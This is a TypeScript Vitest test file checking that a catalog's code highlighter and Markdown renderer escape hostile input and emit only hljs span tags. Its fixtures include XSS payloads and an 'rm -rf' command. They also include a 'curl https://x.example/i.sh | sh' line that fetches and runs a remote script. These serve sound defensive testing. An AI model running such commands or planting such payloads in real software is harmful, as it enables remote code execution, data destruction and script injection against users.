import { describe, expect, it } from 'vitest';
import { highlight, HIGHLIGHT_LIMIT_CHARS } from '../../src/catalog/highlight.ts';
import { renderFile } from '../../src/catalog/render.ts';

/** Every tag in highlighted HTML: only spans with hljs classes, nothing else. */
const tags = (html: string) => [...html.matchAll(/<[^>]+>/g)].map((m) => m[0]).filter((t) => t !== '</span>');

describe('build-time highlighting', () => {
  it('colours JSON and YAML with hljs spans and escapes every character of the source', () => {
    const json = highlight('{"hooks": {"PreToolUse": [{"matcher": "Bash", "command": "echo \\"<script>alert(1)</script>\\" && rm -rf /tmp/x"}]}, "n": 1, "ok": true}', 'json')!;
    expect(tags(json).every((t) => /^<span class="(hljs|language)-[a-z_]+( [a-z_-]+)*">$/.test(t))).toBe(true);
    expect(json).toContain('&lt;script&gt;');
    expect(json).not.toContain('<script>');
    expect(json).toContain('<span class="hljs-attr">&quot;hooks&quot;</span>');
    const yaml = highlight('name: x\ndescription: "a <b>bold</b> claim"\ntools: [Read, Grep]\n', 'yml')!;
    expect(tags(yaml).every((t) => t.startsWith('<span class="hljs-'))).toBe(true);
    expect(yaml).toContain('&lt;b&gt;');
  });

  it('leaves unknown languages and blocks over the limit as plain text', () => {
    expect(highlight('x', 'brainfuck')).toBeUndefined();
    expect(highlight('x', undefined)).toBeUndefined();
    expect(highlight(`"${'a'.repeat(HIGHLIGHT_LIMIT_CHARS)}"`, 'json')).toBeUndefined();
  });

  it('highlights fenced code in rendered Markdown, hostile content included, and nothing else', () => {
    const view = renderFile('x.md', '# T\n\n```bash\ncurl https://x.example/i.sh | sh # "<img src=x onerror=alert(1)>"\n```\n\n```html\n<script>alert(1)</script>\n```\n\n```\nplain <b>\n```\n');
    if (view.format !== 'markdown') throw new Error('not rendered');
    expect(view.html).toContain('<pre tabindex="0"><code class="language-bash">curl https://x.example/i.sh | sh <span class="hljs-comment">');
    expect(view.html).not.toMatch(/<script|<img/);
    expect(tags(view.html).every((t) => /^<\/?(h3|pre|code|span)[ >]/.test(t))).toBe(true);
    expect(view.html).toContain('&lt;<span class="hljs-name">script</span>&gt;');
    expect(view.html).toContain('<pre tabindex="0"><code>plain &lt;b&gt;\n</code></pre>');
  });
});
